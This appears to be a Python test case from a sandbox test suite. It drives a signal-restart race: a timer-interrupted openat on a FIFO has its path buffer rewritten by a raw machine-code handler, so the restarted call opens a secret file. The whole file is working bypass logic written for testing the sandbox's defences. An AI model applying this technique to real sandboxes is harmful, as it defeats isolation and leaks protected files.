# SPDX-License-Identifier: Apache-2.0
# attack: a blocking open is interrupted; the handler changes the path before the kernel runs the call again
# class: restart
# wins: leak
from kit import *

buf, at, bits = twin_path()
fifo = os.fsencode(BOX + '/fifo') + b'\0'
good = os.fsencode(GOOD)
secret = os.fsencode(SECRET)
# handler: rep movsb of the secret's path into the buffer
TEXT = ctypes.create_string_buffer(secret, 4096)
h = code('48bf' + struct.pack('<Q', address(buf)).hex() + '48be' + struct.pack('<Q', address(TEXT)).hex() +
         'b9' + struct.pack('<I', len(secret) + 1).hex() + 'fc' 'f3a4' 'c3')
sigaction(14, h, 0x10000000)
tried()
for i in range(20):
    ctypes.memmove(buf, fifo, len(fifo))
    ticker(20000)
    fd = sc('openat', AT_FDCWD, buf, 0, 0)
    signal.setitimer(signal.ITIMER_REAL, 0)
    if fd >= 0:
        took(fd)
